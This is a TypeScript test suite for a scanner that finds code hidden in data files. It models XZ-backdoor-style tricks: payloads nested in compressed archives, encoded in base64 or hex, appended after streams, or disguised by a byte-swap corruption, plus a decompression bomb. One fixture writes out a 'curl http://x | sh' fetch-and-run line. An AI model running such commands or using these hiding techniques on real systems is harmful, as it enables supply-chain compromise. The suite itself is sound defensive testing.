import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { inspectDataFile } from '../../src/data-files/index.js'
import { objectFile, randomBytes, Workshop, XZ_LIKE_SCRIPT } from './fixtures.js'

let w: Workshop
let object: Buffer
const ELF_OBJECT = /ELF 64-bit relocatable object, (?:x86-64|aarch64)/

beforeAll(() => {
  w = new Workshop('inspect')
  object = objectFile(w)
})
afterAll(() => w.cleanup())

/** text that compresses, but not to nothing */
const prose = (lines: number): string => Array.from({ length: lines }, (_, i) => `line ${i}: ${(i * 2654435761) % 1000003} the quick brown fox ${i % 7}`).join('\n')

describe('nested chains', () => {
  it('follows gzip → tar → ELF object and names the member', async () => {
    w.run('tar', ['-czf', 'obj.tar.gz', 'payload.o'])
    const facts = await inspectDataFile('tests/files/obj.tar.gz', w.read('obj.tar.gz'))
    expect(facts.format?.id).toBe('gzip')
    expect(facts.code).toHaveLength(1)
    expect(facts.code[0]?.chain).toMatch(new RegExp(`^gzip → tar → payload\\.o: ${ELF_OBJECT.source}$`))
    expect(facts.code[0]).toMatchObject({ kind: 'object', depth: 2, through: ['gzip', 'member'], plainMember: true, size: object.length })
    expect(facts.trailing).toEqual([])
    expect(facts.failures).toEqual([])
    expect(facts.root.decode).toMatchObject({ method: 'gzip', status: 'ok' })
  })

  it('follows xz → xz → text', async () => {
    const twice = w.filter(w.filter(prose(200), 'xz', '-c'), 'xz', '-c')
    const facts = await inspectDataFile('t.xz', twice)
    expect(facts.chains).toEqual(['xz → xz → text'])
    expect(facts.code).toEqual([])
    expect(facts.decodedBytes).toBeGreaterThan(prose(200).length)
  })

  it('finds a shell script without a shebang compressed twice (gzip inside xz)', async () => {
    const data = w.filter(w.filter(XZ_LIKE_SCRIPT, 'gzip', '-c'), 'xz', '-c')
    const facts = await inspectDataFile('tests/files/bad-3-corrupt_lzma2.xz', data)
    expect(facts.code).toHaveLength(1)
    expect(facts.code[0]).toMatchObject({ kind: 'shell-script', chain: 'xz → gzip → shell script', depth: 2 })
    expect(facts.code[0]?.format).toBeUndefined()
  })

  it('finds an object file wrapped in zstd, and one in bzip2', async () => {
    for (const [tool, args] of [['zstd', ['-q', '-c']], ['bzip2', ['-c']]] as const) {
      const facts = await inspectDataFile('x', w.filter(object, tool, ...args))
      expect(facts.code.map((c) => c.chain)).toEqual([expect.stringMatching(new RegExp(`^${tool} → ${ELF_OBJECT.source}$`))])
      expect(facts.code[0]?.plainMember).toBe(false)
    }
  })

  it('looks into a .deb: ar → data.tar.xz → ELF', async () => {
    w.write('debian-binary', '2.0\n')
    w.run('tar', ['-cJf', 'data.tar.xz', 'payload.o'])
    w.run('ar', ['rc', 'p.deb', 'debian-binary', 'data.tar.xz'])
    const facts = await inspectDataFile('p.deb', w.read('p.deb'))
    expect(facts.format?.id).toBe('deb')
    expect(facts.code.map((c) => c.chain)).toEqual([expect.stringMatching(new RegExp(`^deb → data\\.tar\\.xz: xz → tar → payload\\.o: ${ELF_OBJECT.source}$`))])
  })

  it('inflates zip members', async () => {
    w.write('notes.txt', prose(50))
    w.run('zip', ['-q', 'z.zip', 'notes.txt', 'payload.o'])
    const facts = await inspectDataFile('z.zip', w.read('z.zip'))
    expect(facts.chains).toContain('zip → notes.txt: text')
    expect(facts.code.map((c) => c.chain)).toEqual([expect.stringMatching(new RegExp(`^zip → payload\\.o: ${ELF_OBJECT.source}$`))])
  })

  it('decodes long base64 runs in text and re-detects them (a gzip-compressed script)', async () => {
    const payload = w.filter(w.filter(XZ_LIKE_SCRIPT, 'gzip', '-c'), 'base64', '-w', '76')
    const header = '# test vector, do not edit\nexpected output follows\n'
    const facts = await inspectDataFile('tests/data/vector.txt', Buffer.concat([Buffer.from(header), payload]))
    expect(facts.text).toBe(true)
    expect(facts.encoded).toEqual([expect.objectContaining({ encoding: 'base64', offset: header.length, format: expect.objectContaining({ id: 'gzip' }) })])
    expect(facts.code).toEqual([expect.objectContaining({ kind: 'shell-script', viaEncodedText: true, chain: `text → [base64 at offset ${header.length}] gzip → shell script` })])
  })

  it('decodes hex runs too', async () => {
    const hex = object.toString('hex')
    const facts = await inspectDataFile('t.txt', Buffer.from(`const blob = "${hex}";\n`))
    expect(facts.encoded[0]).toMatchObject({ encoding: 'hex', length: hex.length, decodedBytes: object.length, format: { id: 'elf' } })
    expect(facts.code[0]?.kind).toBe('object')
  })
})

describe('corrupt streams', () => {
  it('reports where a corrupt xz fails and how much it decoded first', async () => {
    const good = w.filter(prose(40_000), 'xz', '-c', '--block-size=65536')
    const bad = Buffer.from(good)
    const at = Math.floor(bad.length * 0.75)
    for (let i = at; i < at + 16; i++) bad[i] = (bad[i] ?? 0) ^ 0x55
    const facts = await inspectDataFile('tests/files/bad-1.xz', bad)
    expect(facts.failures).toHaveLength(1)
    const failure = facts.failures[0]
    expect(failure?.method).toBe('xz')
    expect(failure?.message).not.toBe('')
    expect(failure?.decodedBytes).toBeGreaterThan(65536)
    expect(failure?.decodedBytes).toBeLessThan(prose(40_000).length)
    expect(facts.root.children[0]?.complete).toBe(false)
  })

  it('a tr character swap turns a valid xz into a corrupt one, and back (the XZ trick)', async () => {
    const valid = w.filter(XZ_LIKE_SCRIPT.repeat(20), 'xz', '-c')
    const swap = (b: Buffer): Buffer => Buffer.from(b.map((x) => (x === 0x09 ? 0x20 : x === 0x20 ? 0x09 : x === 0x2d ? 0x5f : x === 0x5f ? 0x2d : x)))
    const corrupt = swap(valid)
    expect(corrupt.equals(valid)).toBe(false)
    const broken = await inspectDataFile('tests/files/bad-3-corrupt_lzma2.xz', corrupt)
    expect(broken.format?.id).toBe('xz')
    expect(broken.failures[0]?.method).toBe('xz')
    expect(broken.code).toEqual([])
    const fixed = await inspectDataFile('fixed.xz', swap(corrupt))
    expect(fixed.code[0]?.kind).toBe('shell-script')
  })

  it('reports a truncated gzip', async () => {
    const gz = w.filter(prose(5000), 'gzip', '-c')
    const facts = await inspectDataFile('t.gz', gz.subarray(0, gz.length - 100))
    expect(facts.failures).toEqual([expect.objectContaining({ method: 'gzip', message: expect.stringMatching(/end|truncat/i) })])
  })
})

describe('trailing data', () => {
  it('finds a script appended after a gzip member', async () => {
    const gz = w.filter(prose(100), 'gzip', '-c')
    const facts = await inspectDataFile('t.gz', Buffer.concat([gz, Buffer.from(XZ_LIKE_SCRIPT)]))
    expect(facts.failures).toEqual([])
    expect(facts.trailing).toEqual([expect.objectContaining({ chain: 'gzip', offset: gz.length, size: XZ_LIKE_SCRIPT.length, kind: 'shell-script', containsCode: true })])
    expect(facts.code).toEqual([expect.objectContaining({ viaTrailing: true, kind: 'shell-script' })])
  })

  it('reads concatenated gzip members and zero padding as one file, not trailing data', async () => {
    const a = w.filter('first\n', 'gzip', '-c')
    const b = w.filter('second\n', 'gzip', '-c')
    const facts = await inspectDataFile('t.gz', Buffer.concat([a, b, Buffer.alloc(100)]))
    expect(facts.trailing).toEqual([])
    expect(facts.root.children[0]?.size).toBe('first\nsecond\n'.length)
  })

  it.each([
    ['xz', ['-c']],
    ['bzip2', ['-c']],
    ['zstd', ['-q', '-c']],
  ] as const)('finds bytes hidden after a %s stream, and decodes them', async (tool, args) => {
    const stream = w.filter(prose(300), tool, ...args)
    const hidden = w.filter(object, 'gzip', '-c')
    const facts = await inspectDataFile('x', Buffer.concat([stream, hidden]))
    expect(facts.root.decode?.status).toBe('ok')
    expect(facts.root.decode?.end).toBe(stream.length)
    expect(facts.trailing).toEqual([expect.objectContaining({ offset: stream.length, size: hidden.length, format: expect.objectContaining({ id: 'gzip' }), containsCode: true })])
    expect(facts.code[0]?.chain).toMatch(new RegExp(`^${tool} → \\[${hidden.length} trailing bytes at offset ${stream.length}\\] gzip → ${ELF_OBJECT.source}$`))
  })

  it('accepts xz stream padding and concatenated xz streams', async () => {
    const a = w.filter('one\n', 'xz', '-c')
    const b = w.filter('two\n', 'xz', '-c')
    const facts = await inspectDataFile('x.xz', Buffer.concat([a, Buffer.alloc(8), b]))
    expect(facts.trailing).toEqual([])
    expect(facts.failures).toEqual([])
    expect(facts.root.decode?.end).toBe(a.length + 8 + b.length)
  })

  it('finds data after the end of a tar archive', async () => {
    w.write('small.txt', 'small\n')
    w.run('tar', ['-cf', 'small.tar', 'small.txt'])
    const tar = w.read('small.tar')
    const facts = await inspectDataFile('s.tar', Buffer.concat([tar, randomBytes(3000)]))
    expect(facts.trailing).toEqual([expect.objectContaining({ chain: 'tar', offset: tar.length, size: 3000, containsCode: false })])
    expect(facts.trailing[0]?.entropy).toBeGreaterThan(7)
  })

  it('finds data after the end of a zip archive', async () => {
    w.write('z1.txt', prose(10))
    w.run('zip', ['-q', 'z1.zip', 'z1.txt'])
    const zip = w.read('z1.zip')
    const facts = await inspectDataFile('z1.zip', Buffer.concat([zip, Buffer.from('#!/bin/sh\ncurl http://x | sh\n')]))
    expect(facts.trailing).toEqual([expect.objectContaining({ offset: zip.length, kind: 'shell-script', containsCode: true })])
  })
})

describe('limits', () => {
  it('stops a 2 GB zero bomb (zstd inside gzip) with bounded output', async () => {
    const bomb = w.run('sh', ['-c', 'head -c 2000000000 /dev/zero | zstd -q -c | gzip -c'])
    expect(bomb.length).toBeLessThan(1 << 20)
    const facts = await inspectDataFile('bomb.gz', bomb)
    expect(facts.chains[0]).toMatch(/^gzip → zstd → data$/)
    expect(facts.limits).toEqual([expect.objectContaining({ chain: 'gzip → zstd', reason: 'ratio' })])
    expect(facts.decodedBytes).toBeLessThanOrEqual(64 * 1024 * 1024)
    expect(facts.root.children[0]?.children[0]?.complete).toBe(false)
  })

  it('stops at the total output budget', async () => {
    const data = w.filter(randomBytes(3 * 1024 * 1024), 'xz', '-c', '-0')
    const facts = await inspectDataFile('r.xz', data, { maxDecodedBytes: 1024 * 1024 })
    expect(facts.limits).toEqual([expect.objectContaining({ reason: 'total' })])
    expect(facts.decodedBytes).toBe(1024 * 1024)
    expect(facts.root.children[0]?.size).toBe(1024 * 1024)
  })

  it('stops at the depth limit', async () => {
    let data: Buffer = Buffer.from(XZ_LIKE_SCRIPT)
    for (let i = 0; i < 6; i++) data = w.filter(data, 'gzip', '-c')
    const facts = await inspectDataFile('deep.gz', data)
    expect(facts.limits).toEqual([expect.objectContaining({ reason: 'depth', chain: 'gzip → gzip → gzip → gzip → gzip' })])
    expect(facts.code).toEqual([])
    const deeper = await inspectDataFile('deep.gz', data, { maxDepth: 8 })
    expect(deeper.limits).toEqual([])
    expect(deeper.code[0]?.depth).toBe(6)
  })
})

describe('member limits', () => {
  it('stops after maxMembers archive members', async () => {
    for (const name of ['m1', 'm2', 'm3']) w.write(`${name}.txt`, name)
    w.run('zip', ['-q', 'm.zip', 'm1.txt', 'm2.txt', 'm3.txt'])
    const facts = await inspectDataFile('m.zip', w.read('m.zip'), { maxMembers: 2 })
    expect(facts.root.children.map((c) => c.name)).toEqual(['m1.txt', 'm2.txt'])
    expect(facts.limits).toEqual([expect.objectContaining({ chain: 'zip', reason: 'members' })])
  })

  it('stops after 10,000 concatenated gzip members', async () => {
    const member = w.filter('x', 'gzip', '-c', '-n')
    const facts = await inspectDataFile('many.gz', Buffer.concat(Array.from({ length: 10_050 }, () => member)))
    expect(facts.limits).toEqual([expect.objectContaining({ reason: 'members' })])
    expect(facts.root.children[0]?.size).toBe(10_000)
  })

  it('refuses nonsense limits', async () => {
    await expect(inspectDataFile('x', Buffer.from('x'), { maxDepth: -1 })).rejects.toThrow(/maxDepth/)
  })
})

describe('plain content', () => {
  it('a PNG is an image with nothing inside', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(2000)])
    const facts = await inspectDataFile('docs/logo.png', png)
    expect(facts.root.kind).toBe('image')
    expect(facts.code).toEqual([])
    expect(facts.root.children).toEqual([])
  })

  it('a random blob is high-entropy data of unknown format', async () => {
    const facts = await inspectDataFile('tests/blob.bin', randomBytes(100_000))
    expect(facts.format).toBeUndefined()
    expect(facts.root.kind).toBe('data')
    expect(facts.entropy).toBeGreaterThan(7.99)
    expect(facts.text).toBe(false)
  })

  it('a plain shell script file is not reported as hidden code', async () => {
    const facts = await inspectDataFile('tests/run.sh', Buffer.from('#!/bin/sh\nset -e\n./foo --check\n'))
    expect(facts.root.kind).toBe('shell-script')
    expect(facts.text).toBe(true)
    expect(facts.code).toEqual([])
  })
})

describe('legacy .lzma', () => {
  it('decodes an LZMA-alone stream with the system xz and finds the object file inside', async () => {
    const { execFileSync } = await import('node:child_process')
    const { inspectDataFile } = await import('../../src/data-files/index.js')
    const { mkdtempSync, writeFileSync, readFileSync, rmSync } = await import('node:fs')
    const { join } = await import('node:path')
    const { tmpdir } = await import('node:os')
    const dir = mkdtempSync(join(tmpdir(), 'stagelight-lzma-'))
    try {
      writeFileSync(join(dir, 'x.c'), 'int f(void) { return 42; }\n')
      execFileSync('gcc', ['-c', '-o', join(dir, 'x.o'), join(dir, 'x.c')])
      const lzma = execFileSync('xz', ['--format=lzma', '-c', join(dir, 'x.o')])
      const facts = await inspectDataFile('tests/files/good-large_compressed.lzma', lzma)
      expect(facts.format?.id).toBe('lzma')
      expect(facts.chains.join('\n')).toMatch(/^lzma → ELF 64-bit relocatable object/m)
      expect(facts.code.map((c) => c.kind)).toContain('object')
      expect(readFileSync(join(dir, 'x.o')).length).toBe(facts.root.children[0]?.size)
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })
})
